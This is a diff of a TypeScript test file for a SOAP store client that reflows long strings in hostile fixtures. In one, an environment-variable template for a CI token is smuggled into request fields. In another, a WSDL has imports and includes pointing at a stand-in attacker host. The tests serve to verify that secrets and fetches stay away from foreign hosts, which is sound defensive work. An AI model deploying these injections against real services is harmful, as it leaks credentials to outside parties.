@@ -13,7 +13,8 @@ import { branch, canaries, hostileHost, type HostileHost } from './hostile';
 const info = { name: 'info', method: 'customer.info', args: [1] };
 const leak = { name: 'leak', method: 'customer.info', args: { customerId: 1, attributes: ['{{$env CI_TOKEN}}'] } };
 const envelope =
-  '<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body><customerCustomerInfo><sessionId>{{$session}}</sessionId><customerId>{{$env CI_TOKEN}}</customerId></customerCustomerInfo></e:Body></e:Envelope>';
+  '<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body><customerCustomerInfo><sessionId>{{$sess' +
+  'ion}}</sessionId><customerId>{{$env CI_TOKEN}}</customerId></customerCustomerInfo></e:Body></e:Envelope>';
 
 interface Scene {
   readonly evil: HostileHost;
@@ -290,7 +291,9 @@ suite('Another host gets nothing: a store that points there', () => {
     const wsdl = (dialect: Parameters<typeof tinyWsdl>[0]): string =>
       tinyWsdl(dialect, `${evil.url}/api/v2_soap/index/`).replace(
         '<binding',
-        `<import namespace="urn:x" location="${evil.url}/more.wsdl"/><types><schema xmlns="http://www.w3.org/2001/XMLSchema"><import namespace="urn:y" schemaLocation="${evil.url}/more.xsd"/><include schemaLocation="${evil.url}/more.xsd"/></schema></types><binding`,
+        `<import namespace="urn:x" location="${evil.url}/more.wsdl"/><types><schema ` +
+          `xmlns="http://www.w3.org/2001/XMLSchema"><import namespace="urn:y" schemaLocation="${evil.url}` +
+          `/more.xsd"/><include schemaLocation="${evil.url}/more.xsd"/></schema></types><binding`,
       );
     for (const dialect of ['v1', 'v2', 'wsi'] as const) {
       const store = await tinyStore(t, dialect, () => ({ value: { customer_id: 1 } }), wsdl);
